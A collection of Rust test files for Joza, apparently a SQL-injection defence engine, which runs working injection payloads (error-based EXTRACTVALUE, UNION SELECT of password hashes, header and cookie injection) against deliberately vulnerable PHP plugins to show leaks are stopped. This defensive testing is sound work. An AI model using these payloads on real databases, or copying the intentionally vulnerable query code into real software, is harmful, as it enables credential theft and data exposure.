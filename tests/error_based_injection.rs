//! Error-based injection (beyond the testbed's four classes): the
//! `EXTRACTVALUE`/`UPDATEXML` XPath-error channel leaks data through the
//! DBMS error message. The threat model's definition covers it (attacker
//! input interpreted as a built-in function), so Joza must stop it.

use joza::core::{Joza, JozaConfig};
use joza::db::{Database, Value};
use joza::webapp::app::{Plugin, WebApp};
use joza::webapp::request::HttpRequest;
use joza::webapp::server::Server;

fn app() -> Server {
    let mut app = WebApp::wordpress_style("gallery");
    app.add_plugin(Plugin::new(
        "image",
        "1.0",
        r#"
        $id = $_GET['id'];
        $r = mysql_query("SELECT file FROM images WHERE id=" . $id);
        if ($r) {
            while ($row = mysql_fetch_assoc($r)) { echo $row['file']; }
        } else {
            // Verbose error page: the exfiltration channel.
            echo "query failed: ", mysql_error();
        }
        "#,
    ));
    let mut db = Database::new();
    db.create_table("images", &["id", "file"]);
    db.insert_row("images", vec![Value::Int(1), "cat.jpg".into()]);
    db.create_table("wp_users", &["id", "user_pass"]);
    db.insert_row("wp_users", vec![Value::Int(1), "errleak-pw-7".into()]);
    Server::new(app, db)
}

#[test]
fn extractvalue_error_leaks_unprotected_and_is_blocked() {
    let mut server = app();
    let payload = "1 AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT user_pass FROM wp_users LIMIT 1)))";
    let attack = HttpRequest::get("image").param("id", payload);

    // Unprotected: the DBMS error message carries the password.
    let resp = server.handle(&attack);
    assert!(
        resp.body.contains("errleak-pw-7"),
        "error-based exfiltration must work unprotected: {}",
        resp.body
    );

    // Joza: both components flag it (EXTRACTVALUE/CONCAT are critical
    // tokens absent from fragments; the payload appears verbatim).
    let joza = Joza::install(&server.app, JozaConfig::optimized());
    let resp = server.handle_with(&attack, &joza);
    assert!(resp.blocked || resp.executed < resp.queries.len());
    assert!(!resp.body.contains("errleak-pw-7"));

    // Benign traffic unaffected.
    let resp = server.handle_with(&HttpRequest::get("image").param("id", "1"), &joza);
    assert!(!resp.blocked);
    assert_eq!(resp.body, "cat.jpg");
}

#[test]
fn error_virtualization_hides_the_error_channel() {
    use joza::core::RecoveryPolicy;
    let mut server = app();
    let joza = Joza::install(
        &server.app,
        JozaConfig { recovery: RecoveryPolicy::ErrorVirtualization, ..JozaConfig::optimized() },
    );
    let payload = "1 AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT user_pass FROM wp_users LIMIT 1)))";
    let resp = server.handle_with(&HttpRequest::get("image").param("id", payload), &joza);
    // The app still renders its error page, but with Joza's generic error
    // instead of the DBMS's leaking one.
    assert!(!resp.blocked);
    assert!(resp.body.contains("query failed"));
    assert!(!resp.body.contains("errleak-pw-7"), "{}", resp.body);
}
