//! End-to-end tests for the `joza` command-line tool: extract a fragment
//! vocabulary from PHP sources on disk, then check queries against it.

use std::path::PathBuf;
use std::process::Command;

fn joza_bin() -> &'static str {
    env!("CARGO_BIN_EXE_joza")
}

fn write_demo_app(dir: &std::path::Path) -> PathBuf {
    let plugin = dir.join("plugin.php");
    std::fs::write(
        &plugin,
        r#"
        $id = $_GET['id'];
        $q = "SELECT title FROM posts WHERE id=" . $id . " LIMIT 1";
        $r = mysql_query($q);
        "#,
    )
    .expect("write demo plugin");
    // A nested directory exercises recursion.
    let sub = dir.join("includes");
    std::fs::create_dir_all(&sub).expect("mkdir");
    std::fs::write(sub.join("helpers.php"), r#"$h = "SELECT option_value FROM options";"#)
        .expect("write helper");
    plugin
}

#[test]
fn extract_then_check_roundtrip() {
    let tmp = std::env::temp_dir().join(format!("joza-cli-test-{}", std::process::id()));
    std::fs::create_dir_all(&tmp).expect("mkdir");
    write_demo_app(&tmp);

    // Extract.
    let out = Command::new(joza_bin()).arg("extract").arg(&tmp).output().expect("run extract");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let fragments = String::from_utf8(out.stdout).expect("utf8");
    assert!(fragments.contains("SELECT title FROM posts WHERE id="), "{fragments}");
    assert!(fragments.contains("SELECT option_value FROM options"), "{fragments}");
    let frag_file = tmp.join("fragments.txt");
    std::fs::write(&frag_file, &fragments).expect("write fragments");

    // Benign check: exit 0.
    let out = Command::new(joza_bin())
        .args(["check", "-f"])
        .arg(&frag_file)
        .args(["-i", "7", "SELECT title FROM posts WHERE id=7 LIMIT 1"])
        .output()
        .expect("run check");
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stdout));
    assert!(String::from_utf8_lossy(&out.stdout).contains("verdict: safe"));

    // Attack check: exit 1 and both components flag it.
    let payload = "7 UNION SELECT user_pass FROM users";
    let query = format!("SELECT title FROM posts WHERE id={payload} LIMIT 1");
    let out = Command::new(joza_bin())
        .args(["check", "-f"])
        .arg(&frag_file)
        .args(["-i", payload, &query])
        .output()
        .expect("run check");
    assert_eq!(out.status.code(), Some(1));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("nti: ATTACK"), "{stdout}");
    assert!(stdout.contains("pti: ATTACK"), "{stdout}");

    // Audit reports the vocabulary surface.
    let out =
        Command::new(joza_bin()).args(["audit", "-f"]).arg(&frag_file).output().expect("run audit");
    assert!(out.status.success());
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("SELECT"), "{stdout}");

    std::fs::remove_dir_all(&tmp).ok();
}

#[test]
fn check_requires_fragments_flag() {
    let out = Command::new(joza_bin()).args(["check", "SELECT 1"]).output().expect("run check");
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("missing -f"));
}

#[test]
fn help_prints_usage() {
    let out = Command::new(joza_bin()).arg("--help").output().expect("run help");
    assert!(out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("usage:"));
}
