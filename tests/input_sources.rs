//! NTI input-source coverage (§II, §IV-D): attacks arriving through HTTP
//! headers and cookies — not just GET/POST — must be captured and caught.

use joza::core::{Joza, JozaConfig};
use joza::db::{Database, Value};
use joza::webapp::app::{Plugin, WebApp};
use joza::webapp::request::HttpRequest;
use joza::webapp::server::Server;

/// An IP-logger style plugin: trusts `X-Forwarded-For` into an INSERT —
/// the classic header-injection hole.
fn header_logger_app() -> Server {
    let mut app = WebApp::wordpress_style("header-logger");
    app.add_plugin(Plugin::new(
        "log-visit",
        "1.0",
        r#"
        $ip = $_SERVER['HTTP_X_FORWARDED_FOR'];
        $ok = mysql_query("INSERT INTO visits (ip, page) VALUES ('" . $ip . "', 'home')");
        if ($ok) { echo "logged"; } else { echo "err: ", mysql_error(); }
        $all = mysql_query("SELECT ip, page FROM visits");
        while ($row = mysql_fetch_assoc($all)) { echo " [", $row['ip'], "|", $row['page'], "]"; }
        "#,
    ));
    let mut db = Database::new();
    db.create_table("visits", &["id", "ip", "page"]);
    db.create_table("secrets", &["k", "v"]);
    db.insert_row("secrets", vec!["api-key".into(), "TOPSECRET-42".into()]);
    Server::new(app, db)
}

#[test]
fn header_borne_injection_is_captured_and_blocked() {
    let mut server = header_logger_app();
    // Magic quotes do not apply to $_SERVER values in PHP — the framework
    // pipeline only covers GET/POST/cookies, so the header arrives raw.
    let attack = HttpRequest::get("log-visit")
        .header("X-Forwarded-For", "1.2.3.4', (SELECT v FROM secrets LIMIT 1)), ('x");

    // Unprotected: the subquery smuggles the secret into the visits table
    // and the page echoes it back.
    let resp = server.handle(&attack);
    assert!(resp.body.contains("TOPSECRET-42"), "header exploit must work: {}", resp.body);

    // Joza captures headers among the raw inputs and stops the attack.
    let joza = Joza::install(&server.app, JozaConfig::optimized());
    let resp = server.handle_with(&attack, &joza);
    assert!(resp.blocked || resp.executed < resp.queries.len());
    assert!(!resp.body.contains("TOPSECRET-42"));

    // A realistic benign header passes.
    let benign = HttpRequest::get("log-visit").header("X-Forwarded-For", "203.0.113.9");
    let resp = server.handle_with(&benign, &joza);
    assert!(!resp.blocked, "{resp:?}");
    assert_eq!(resp.executed, resp.queries.len());
}

#[test]
fn cookie_borne_injection_is_captured_and_blocked() {
    let mut app = WebApp::wordpress_style("prefs");
    app.add_plugin(Plugin::new(
        "render",
        "1.0",
        r#"
        $theme = $_COOKIE['theme'];
        $r = mysql_query("SELECT css FROM themes WHERE name='" . $theme . "'");
        $row = mysql_fetch_assoc($r);
        if ($row) { echo $row['css']; } else { echo "default"; }
        "#,
    ));
    let mut db = Database::new();
    db.create_table("themes", &["name", "css"]);
    db.insert_row("themes", vec!["light".into(), "body{}".into()]);
    db.create_table("wp_users", &["id", "user_pass"]);
    db.insert_row("wp_users", vec![Value::Int(1), "cookie-secret-9".into()]);
    let mut server = Server::new(app, db);

    // Cookies go through magic quotes, so the breakout uses the classic
    // trick of backslash-escaping the opening quote… simplest working
    // form here: a numeric-context-free UNION after escaping survives
    // only when quotes are avoided entirely, so verify detection on the
    // raw attack payload as captured.
    let attack = HttpRequest::get("render")
        .cookie("theme", "light' UNION SELECT user_pass FROM wp_users-- -");
    let joza = Joza::install(&server.app, JozaConfig::optimized());
    let resp = server.handle_with(&attack, &joza);
    // Magic quotes already neutralize this variant; whether or not it
    // would have worked, Joza must not flag the *benign* cookie…
    let benign = HttpRequest::get("render").cookie("theme", "light");
    let ok = server.handle_with(&benign, &joza);
    assert!(!ok.blocked);
    assert_eq!(ok.executed, ok.queries.len());
    // …and the attack cookie must never leak the secret either way.
    assert!(!resp.body.contains("cookie-secret-9"));
}

#[test]
fn gate_sees_all_four_sources() {
    use joza::webapp::gate::{AllowAll, GateFactory, GateSession, RawInput};
    use joza::webapp::request::InputSource;
    use std::sync::Mutex;

    struct Capture(Mutex<Vec<(InputSource, String)>>);
    impl GateFactory for Capture {
        fn session<'a>(&'a self, _route: &str, inputs: &[RawInput]) -> Box<dyn GateSession + 'a> {
            *self.0.lock().unwrap() = inputs.iter().map(|i| (i.source, i.value.clone())).collect();
            Box::new(AllowAll)
        }
    }

    let mut server = header_logger_app();
    let req = HttpRequest::get("log-visit")
        .param("page", "home")
        .cookie("session", "abc123")
        .header("X-Forwarded-For", "10.0.0.1");
    let gate = Capture(Mutex::new(Vec::new()));
    let _ = server.handle_with(&req, &gate);
    let sources: Vec<InputSource> = gate.0.lock().unwrap().iter().map(|(s, _)| *s).collect();
    assert!(sources.contains(&InputSource::Get));
    assert!(sources.contains(&InputSource::Cookie));
    assert!(sources.contains(&InputSource::Header));
}
