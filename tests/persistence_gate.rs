//! Persistence-aware gating invariants.
//!
//! The static fast path may only skip routes the store/load fixpoint
//! proved clean — a second-order-reachable route must stay on the
//! dynamic pipeline even when first-order analysis alone would have
//! fast-pathed it. These tests drive the second-order testbed through a
//! fully-loaded gate and check the counters directly: zero static hits
//! on plant/trigger traffic, no counter drift, and no behavior change on
//! the existing benign and exploit corpora when the pass is enabled.

use joza::core::{Joza, JozaConfig};
use joza::lab::harden::benign_corpus;
use joza::lab::second_order::{build_second_order_lab, run_two_phase_gated};
use joza::lab::verify::exploit_effect_observed;
use joza::lab::{build_lab, CLEAN_CORE_ROUTES};
use joza::sast::{analyze_store_flow, taint_free_routes, RouteClass};

/// The persistence-aware taint-free set excludes every
/// second-order-reachable route, and the pass actually holds back routes
/// the first-order criterion would have fast-pathed.
#[test]
fn taint_free_routes_exclude_second_order_reachable() {
    let so = build_second_order_lab();
    let report = analyze_store_flow(&so.lab.server.app);
    let second_order = report.second_order_routes();
    assert!(!second_order.is_empty(), "second-order testbed yielded no reachable routes");
    for case in &so.cases {
        assert!(
            second_order.contains(&case.trigger_route),
            "{} not classified second-order-reachable",
            case.trigger_route
        );
    }

    let fast = report.taint_free_routes();
    assert_eq!(fast, taint_free_routes(&so.lab.server.app), "free function disagrees");
    for route in &fast {
        assert!(!second_order.contains(route), "{route} fast-pathed while second-order-reachable");
    }

    // The pre-persistence criterion would have fast-pathed at least one
    // route the fixpoint now keeps dynamic.
    let held_back: Vec<&str> = report
        .routes
        .iter()
        .filter(|r| r.first_order_taint_free && r.class == RouteClass::SecondOrderReachable)
        .map(|r| r.route.as_str())
        .collect();
    assert!(!held_back.is_empty(), "persistence pass held back no first-order-clean route");
}

/// Driving every plant, trigger, and benign round trip through the
/// fully-loaded persistence-aware gate never takes the static fast path
/// on a non-clean route, and the counter partition stays drift-free.
#[test]
fn static_stage_never_fires_on_second_order_traffic() {
    let mut so = build_second_order_lab();
    let report = analyze_store_flow(&so.lab.server.app);
    let gate = Joza::installer(&so.lab.server.app, JozaConfig::optimized())
        .taint_free_routes(report.taint_free_routes())
        .dirty_cells(report.dirty_cells())
        .build();

    let base = gate.stats();
    for case in so.cases.clone() {
        // Benign round trip: allowed end to end.
        so.reset_database();
        let plant = so.lab.server.handle_with(&case.benign_plant_request(), &gate);
        let trigger = so.lab.server.handle_with(&case.trigger_request(), &gate);
        assert!(!plant.blocked, "{} benign plant blocked", case.class);
        assert!(!trigger.blocked, "{} benign trigger blocked", case.class);

        // Exploit and evasive variants: plant allowed, trigger denied.
        for variant in [case.clone(), case.evasive_variant()] {
            so.reset_database();
            let outcome = run_two_phase_gated(&mut so.lab.server, &variant, &gate);
            assert!(outcome.plant_allowed, "{} plant blocked", case.class);
            assert!(outcome.trigger_denied && !outcome.leaked, "{} not defeated", case.class);
        }
    }
    let stats = gate.stats();

    // Plants are first-order-dangerous and triggers second-order-
    // reachable: neither is in the taint-free set, so the static stage
    // must not have fired once.
    assert_eq!(
        stats.static_hits, base.static_hits,
        "static fast path fired on second-order traffic"
    );
    assert_eq!(
        stats.model_fast_hits + stats.static_hits + stats.full_checks,
        stats.queries,
        "counter partition drifted"
    );
    // With taint-free routes installed but no query models, every
    // dynamic check on a named non-fast-path route is (by design) an
    // *unknown* route miss — so the miss counter must track full checks
    // exactly, and incomplete-model misses stay impossible.
    assert_eq!(stats.route_misses_unknown, stats.full_checks);
    assert_eq!(stats.route_misses_incomplete, base.route_misses_incomplete);
}

/// Enabling the persistence-aware pass changes nothing on the existing
/// benign corpus (zero new false positives) and leaves first-order
/// exploit verdicts bit-identical: every response body, block flag, and
/// executed-query count matches the first-order-only gate.
#[test]
fn benign_and_first_order_verdicts_are_unchanged_by_the_pass() {
    let mut lab = build_lab();
    let report = analyze_store_flow(&lab.server.app);
    let first_order = Joza::install(&lab.server.app, JozaConfig::optimized());
    let persistence_aware = Joza::installer(&lab.server.app, JozaConfig::optimized())
        .taint_free_routes(report.taint_free_routes())
        .dirty_cells(report.dirty_cells())
        .build();

    // Benign corpus: bit-identical responses, nothing blocked.
    let corpus = benign_corpus(&lab);
    assert_eq!(corpus.len(), 61, "benign corpus size changed — update this test");
    for req in &corpus {
        lab.reset_database();
        let a = lab.server.handle_with(req, &first_order);
        lab.reset_database();
        let b = lab.server.handle_with(req, &persistence_aware);
        assert!(!b.blocked, "benign request blocked with pass enabled: {req:?}");
        assert_eq!(a.blocked, b.blocked, "{req:?}");
        assert_eq!(a.body, b.body, "benign response changed with pass enabled: {req:?}");
        assert_eq!(a.executed, b.executed, "{req:?}");
    }

    // First-order exploits: identical effectiveness verdict per plugin.
    let plugins: Vec<_> = lab.plugins.iter().chain(lab.cms_cases.iter()).cloned().collect();
    for p in &plugins {
        lab.reset_database();
        let a = exploit_effect_observed(&mut lab.server, p, &p.exploit, Some(&first_order));
        lab.reset_database();
        let b = exploit_effect_observed(&mut lab.server, p, &p.exploit, Some(&persistence_aware));
        assert_eq!(a, b, "first-order verdict changed for {} with pass enabled", p.slug);
    }

    // Sanity: the base lab's core clean routes minus second-order ones
    // still ride the fast path (the pass is not trivially empty).
    let fast = report.taint_free_routes();
    assert!(
        fast.iter().any(|r| CLEAN_CORE_ROUTES.contains(&r.as_str())),
        "no clean core route left on the fast path: {fast:?}"
    );
}
