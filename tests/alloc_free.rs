//! The allocation-free hot path, asserted with a counting allocator:
//! once the per-thread check arena and the symbol table are warm, a
//! model-fast-path check performs **zero** heap allocations.
//!
//! The counter is thread-local, so parallel tests in this binary cannot
//! pollute each other's deltas, and the global allocator hook stays
//! reentrancy-safe (a `const`-initialized `Cell` needs no lazy
//! allocation of its own).

use joza::core::{CheckPath, Joza, JozaConfig};
use joza::sqlparse::template::{QueryModelIndex, QueryTemplate, RouteModel, TemplatePart};
use std::alloc::{GlobalAlloc, Layout, System};
use std::cell::Cell;

thread_local! {
    static ALLOCS: Cell<u64> = const { Cell::new(0) };
}

fn allocs_on_this_thread() -> u64 {
    ALLOCS.with(Cell::get)
}

fn bump() {
    // `try_with` so allocations during TLS teardown are simply not
    // counted instead of aborting the process.
    let _ = ALLOCS.try_with(|c| c.set(c.get() + 1));
}

struct CountingAlloc;

// SAFETY: defers every operation to `System`; the bookkeeping around it
// touches only a const-initialized thread-local `Cell`.
unsafe impl GlobalAlloc for CountingAlloc {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        bump();
        System.alloc(layout)
    }

    unsafe fn alloc_zeroed(&self, layout: Layout) -> *mut u8 {
        bump();
        System.alloc_zeroed(layout)
    }

    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        bump();
        System.realloc(ptr, layout, new_size)
    }

    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        System.dealloc(ptr, layout)
    }
}

#[global_allocator]
static ALLOCATOR: CountingAlloc = CountingAlloc;

/// An engine whose `items` route carries a complete query model for
/// `SELECT * FROM items WHERE id=<hole>`, so matching queries resolve on
/// the model fast path.
fn model_engine() -> Joza {
    let template = QueryTemplate {
        parts: vec![
            TemplatePart::Lit("SELECT * FROM items WHERE id=".to_string()),
            TemplatePart::Hole,
        ],
    };
    let mut models = QueryModelIndex::new();
    models.insert("items", RouteModel::build(&[Some(vec![template])]));
    Joza::builder()
        .fragments(["SELECT * FROM items WHERE id="])
        .config(JozaConfig::optimized())
        .query_models(models)
        .known_routes(["items"])
        .build()
}

#[test]
fn model_fast_path_is_allocation_free_when_warm() {
    let joza = model_engine();
    let queries = [
        "SELECT * FROM items WHERE id=42",
        "SELECT * FROM items WHERE id=7",
        "SELECT * FROM items WHERE id=123456",
    ];

    // Warmup: grows the thread's arena buffers to the working-set
    // high-water mark, interns the queries' skeleton vocabulary, and
    // faults in every lazy static on the path (stats cells, keyword
    // tables). Two rounds so buffer capacities stop moving.
    for _ in 0..2 {
        for q in queries {
            let v = joza.check_query_on_route("items", &["42"], q);
            assert!(v.is_safe(), "warmup query must pass the model: {q}");
            assert_eq!(v.path(), CheckPath::ModelFastPath, "{q}");
        }
    }

    let before = allocs_on_this_thread();
    for _ in 0..32 {
        for q in queries {
            let v = joza.check_query_on_route("items", &["42"], q);
            assert!(v.is_safe());
            assert_eq!(v.path(), CheckPath::ModelFastPath);
        }
    }
    let delta = allocs_on_this_thread() - before;
    assert_eq!(delta, 0, "warm model-fast-path checks must not allocate ({delta} allocations)");
}

#[test]
fn warm_batch_amortizes_to_constant_allocations() {
    use joza::core::QueryCheck;

    let joza = model_engine();
    let checks: Vec<QueryCheck> =
        (0..64).map(|i| QueryCheck::new(format!("SELECT * FROM items WHERE id={i}"))).collect();

    let mut session = joza.session_for("items");
    session.capture_input("id", "42");
    let warm = session.check_batch(&checks);
    assert!(warm.iter().all(|v| v.is_safe() && v.path() == CheckPath::ModelFastPath));

    let before = allocs_on_this_thread();
    let verdicts = session.check_batch(&checks);
    let delta = allocs_on_this_thread() - before;
    assert!(verdicts.iter().all(|v| v.is_safe()));

    // The whole 64-query batch is allowed its fixed serving-side
    // allocations (the verdict vector, the input-ref vector) but nothing
    // per query: well under one allocation per check.
    assert!(delta < 8, "64-query warm batch allocated {delta} times");
}
