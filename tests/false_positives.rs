//! False-positive sweeps (§V-B): realistic benign traffic — including the
//! adversarial-looking kind — must never be blocked by the full hybrid.

use joza::core::{Joza, JozaConfig};
use joza::lab::build_lab;
use joza::lab::verify::request_for;
use joza::webapp::request::HttpRequest;

#[test]
fn benign_crawl_comments_searches_never_blocked() {
    let mut lab = build_lab();
    let joza = Joza::install(&lab.server.app, JozaConfig::optimized());
    let mut check = |req: HttpRequest| {
        let resp = lab.server.handle_with(&req, &joza);
        assert!(!resp.blocked, "false positive on {req:?}");
        assert_eq!(resp.executed, resp.queries.len(), "virtualized benign query on {req:?}");
    };

    check(HttpRequest::get("index"));
    for p in 1..=40 {
        check(HttpRequest::get("single-post").param("p", &p.to_string()));
    }
    // Searches with SQL-looking but benign content.
    for s in [
        "lorem",
        "it's",
        "O'Brien",
        "select your battles",
        "union jack",
        "1=1 in algebra",
        "drop me a line",
        "-- dashes --",
        "a AND b",
        "50% off!",
        "  padded  ",
        "comment/*inline*/style",
    ] {
        check(HttpRequest::get("search").param("s", s));
    }
    // Comments with quotes, SQL words, numbers, emoji-free punctuation.
    for (author, text) in [
        ("alice", "nice post!"),
        ("o'brien", "it's genuinely great, isn't it?"),
        ("bob", "I'd say 1+1=2 -- obviously"),
        ("carol", "SELECT your words carefully ;)"),
        ("dave", "union of opinions, or not"),
        ("eve", "WHERE do I sign up?"),
        ("frank", "my password is *not* 'hunter2'"),
        ("grace", "ORDER BY relevance please"),
    ] {
        check(
            HttpRequest::post("post-comment")
                .param("comment_post_ID", "2")
                .param("author", author)
                .param("comment", text),
        );
    }
}

#[test]
fn every_plugin_benign_value_passes() {
    let mut lab = build_lab();
    let joza = Joza::install(&lab.server.app, JozaConfig::optimized());
    let plugins = lab.plugins.clone();
    for plugin in plugins.iter().chain(lab.cms_cases.clone().iter()) {
        let resp = lab.server.handle_with(&request_for(plugin, &plugin.benign_value), &joza);
        assert!(!resp.blocked, "{}: benign blocked", plugin.name);
        assert_eq!(resp.executed, resp.queries.len(), "{}: benign virtualized", plugin.name);
    }
}

#[test]
fn threat_model_allows_field_names_from_input() {
    // §II: programs that pass field/table names through inputs (advanced
    // search) must keep working — identifiers are not critical tokens.
    use joza::db::{Database, Value};
    use joza::webapp::app::{Plugin, WebApp};
    use joza::webapp::server::Server;

    let mut app = WebApp::new("advanced-search");
    app.add_plugin(Plugin::new(
        "sort",
        "1.0",
        r#"
        $col = $_GET['orderby'];
        $r = mysql_query("SELECT title FROM posts ORDER BY " . $col . " DESC");
        while ($row = mysql_fetch_assoc($r)) { echo $row['title'], ";"; }
        "#,
    ));
    let mut db = Database::new();
    db.create_table("posts", &["title", "views", "created"]);
    db.insert_row("posts", vec!["a".into(), Value::Int(5), Value::Int(100)]);
    db.insert_row("posts", vec!["b".into(), Value::Int(9), Value::Int(50)]);
    let mut server = Server::new(app, db);
    let joza = Joza::install(&server.app, JozaConfig::optimized());

    for col in ["views", "created", "title"] {
        let resp = server.handle_with(&HttpRequest::get("sort").param("orderby", col), &joza);
        assert!(!resp.blocked, "column {col} blocked — identifiers must not be critical");
        assert_eq!(resp.executed, 1);
    }
    // …but injecting *structure* through the same parameter is stopped.
    let resp = server.handle_with(
        &HttpRequest::get("sort").param("orderby", "(SELECT user_pass FROM users LIMIT 1)"),
        &joza,
    );
    assert!(resp.blocked || resp.executed < resp.queries.len());
}
