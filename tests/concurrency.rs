//! Concurrency: one Joza engine shared by many request threads (the
//! paper's deployment — multiple PHP application instances talking to
//! shared daemons) must stay consistent under contention.

use joza::core::{Joza, JozaConfig, Verdict};
use joza::pti::daemon::{DaemonMode, PtiComponentConfig};
use std::sync::Arc;

const FRAGS: &[&str] = &[
    "id",
    "SELECT * FROM records WHERE ID=",
    " LIMIT 5",
    "SELECT option_value FROM wp_options WHERE option_name = '",
    "' LIMIT 1",
];

fn assert_send_sync<T: Send + Sync>() {}

#[test]
fn engine_is_send_and_sync() {
    assert_send_sync::<Joza>();
    assert_send_sync::<JozaConfig>();
    assert_send_sync::<Verdict>();
}

#[test]
fn concurrent_checks_are_consistent() {
    for mode in [DaemonMode::LongLived, DaemonMode::InProcess] {
        let config = JozaConfig {
            pti: PtiComponentConfig { mode, ..PtiComponentConfig::optimized() },
            ..JozaConfig::default()
        };
        let joza = Arc::new(Joza::builder().fragments(FRAGS).config(config).build());

        let threads: Vec<_> = (0..8)
            .map(|t| {
                let joza = Arc::clone(&joza);
                std::thread::spawn(move || {
                    for i in 0..200 {
                        let id = t * 1000 + i;
                        let benign = format!("SELECT * FROM records WHERE ID={id} LIMIT 5");
                        assert!(
                            joza.check_query(&[&id.to_string()], &benign).is_safe(),
                            "benign flipped under contention: {benign}"
                        );
                        if i % 7 == 0 {
                            let payload = format!("{id} UNION SELECT username()");
                            let attack =
                                format!("SELECT * FROM records WHERE ID={payload} LIMIT 5");
                            assert!(
                                !joza.check_query(&[&payload], &attack).is_safe(),
                                "attack missed under contention: {attack}"
                            );
                        }
                    }
                })
            })
            .collect();
        for t in threads {
            t.join().expect("worker thread panicked");
        }

        let stats = joza.stats();
        assert_eq!(stats.queries, 8 * (200 + 200_u64.div_ceil(7)));
        assert_eq!(stats.attacks, 8 * 200_u64.div_ceil(7));
    }
}

/// Many workers hammering an explicitly sharded engine: the per-shard
/// stats cells must aggregate to exactly the work submitted — not one
/// query more or less — and every verdict must match the single-threaded
/// engine's.
#[test]
fn sharded_engine_aggregates_exact_stats_under_stress() {
    const WORKERS: usize = 8;
    const BENIGN_PER_WORKER: u64 = 150;
    const ATTACKS_PER_WORKER: u64 = 25;

    let config = JozaConfig { shards: 4, ..JozaConfig::optimized() };
    let joza = Joza::builder().fragments(FRAGS).config(config).build();
    assert_eq!(joza.shard_count(), 4);

    std::thread::scope(|s| {
        for t in 0..WORKERS {
            let joza = &joza;
            s.spawn(move || {
                for i in 0..BENIGN_PER_WORKER {
                    let id = t as u64 * 10_000 + i;
                    let q = format!("SELECT * FROM records WHERE ID={id} LIMIT 5");
                    assert!(joza.check_query(&[&id.to_string()], &q).is_safe());
                }
                for i in 0..ATTACKS_PER_WORKER {
                    let payload = format!("{i} UNION SELECT username()");
                    let q = format!("SELECT * FROM records WHERE ID={payload} LIMIT 5");
                    assert!(!joza.check_query(&[&payload], &q).is_safe());
                }
            });
        }
    });

    let stats = joza.stats();
    assert_eq!(stats.queries, WORKERS as u64 * (BENIGN_PER_WORKER + ATTACKS_PER_WORKER));
    assert_eq!(stats.attacks, WORKERS as u64 * ATTACKS_PER_WORKER);
}

/// Satellite of the pipeline refactor: with every fast path live at once
/// — model skeletons on one route, a statically-proven taint-free route,
/// unknown routes falling back to dynamic — the per-path counters must
/// partition the total exactly under concurrent load. Before the staged
/// pipeline, fast-path hits and full checks were counted at different
/// layers and could drift.
#[test]
fn path_counters_partition_checks_under_stress() {
    use joza::sqlparse::template::{QueryModelIndex, QueryTemplate, RouteModel, TemplatePart};

    const WORKERS: u64 = 8;
    const ROUNDS: u64 = 100;

    let template = QueryTemplate {
        parts: vec![
            TemplatePart::Lit("SELECT * FROM records WHERE ID=".to_string()),
            TemplatePart::Hole,
            TemplatePart::Lit(" LIMIT 5".to_string()),
        ],
    };
    let mut models = QueryModelIndex::new();
    models.insert("records", RouteModel::build(&[Some(vec![template])]));

    let joza = Joza::builder()
        .fragments(FRAGS)
        .config(JozaConfig { shards: 4, ..JozaConfig::optimized() })
        .query_models(models)
        .taint_free_routes(["static-page"])
        .build();

    std::thread::scope(|s| {
        for t in 0..WORKERS {
            let joza = &joza;
            s.spawn(move || {
                for i in 0..ROUNDS {
                    let id = t * 10_000 + i;
                    let q = format!("SELECT * FROM records WHERE ID={id} LIMIT 5");
                    // Model fast path: the skeleton matches the template.
                    let mut session = joza.session_for("records");
                    session.capture_input("id", &id.to_string());
                    assert!(session.check(&q).is_safe());
                    // Static fast path: statically proven taint-free route.
                    assert!(joza.check_query_on_route("static-page", &[], &q).is_safe());
                    // Unknown route: counted as a miss, checked dynamically.
                    assert!(joza.check_query_on_route("no-such-route", &[], &q).is_safe());
                    // Plain dynamic check, occasionally an attack.
                    if i % 9 == 0 {
                        let payload = format!("{id} UNION SELECT username()");
                        let attack = format!("SELECT * FROM records WHERE ID={payload} LIMIT 5");
                        assert!(!joza.check_query(&[&payload], &attack).is_safe());
                    } else {
                        assert!(joza.check_query(&[&id.to_string()], &q).is_safe());
                    }
                }
            });
        }
    });

    let stats = joza.stats();
    assert_eq!(stats.queries, WORKERS * ROUNDS * 4);
    assert_eq!(
        stats.model_fast_hits + stats.static_hits + stats.full_checks,
        stats.queries,
        "fast-path hits and full checks must partition the total exactly"
    );
    assert_eq!(stats.model_fast_hits, WORKERS * ROUNDS);
    assert_eq!(stats.static_hits, WORKERS * ROUNDS);
    assert_eq!(stats.full_checks, WORKERS * ROUNDS * 2);
    assert_eq!(stats.route_misses_unknown, WORKERS * ROUNDS);
    assert_eq!(stats.route_misses_incomplete, 0);
    assert_eq!(stats.attacks, WORKERS * ROUNDS.div_ceil(9));
}

/// The shared query cache's counters must be monotone when sampled
/// mid-flight from another thread, and add up exactly once the workers
/// are done: every check does one lookup, and only safe queries insert.
#[test]
fn query_cache_stats_are_monotone_under_contention() {
    use std::sync::atomic::{AtomicBool, Ordering};

    const WORKERS: u64 = 4;
    const ROUNDS: u64 = 120;

    let joza = Joza::builder()
        .fragments(FRAGS)
        .config(JozaConfig { shards: 4, ..JozaConfig::optimized() })
        .build();
    let done = AtomicBool::new(false);

    std::thread::scope(|s| {
        // A monitor thread samples the cache stats while workers hammer:
        // no snapshot may ever go backwards.
        let monitor = s.spawn({
            let joza = &joza;
            let done = &done;
            move || {
                let mut last = joza.query_cache_stats();
                let mut samples = 0u64;
                while !done.load(Ordering::Acquire) {
                    let now = joza.query_cache_stats();
                    assert!(now.hits >= last.hits, "hits went backwards");
                    assert!(now.misses >= last.misses, "misses went backwards");
                    assert!(now.inserts >= last.inserts, "inserts went backwards");
                    last = now;
                    samples += 1;
                    std::thread::yield_now();
                }
                samples
            }
        });

        let workers: Vec<_> = (0..WORKERS)
            .map(|_| {
                let joza = &joza;
                s.spawn(move || {
                    for i in 0..ROUNDS {
                        // Every worker checks the same small query set, so
                        // most lookups hit whatever another worker inserted.
                        let id = i % 10;
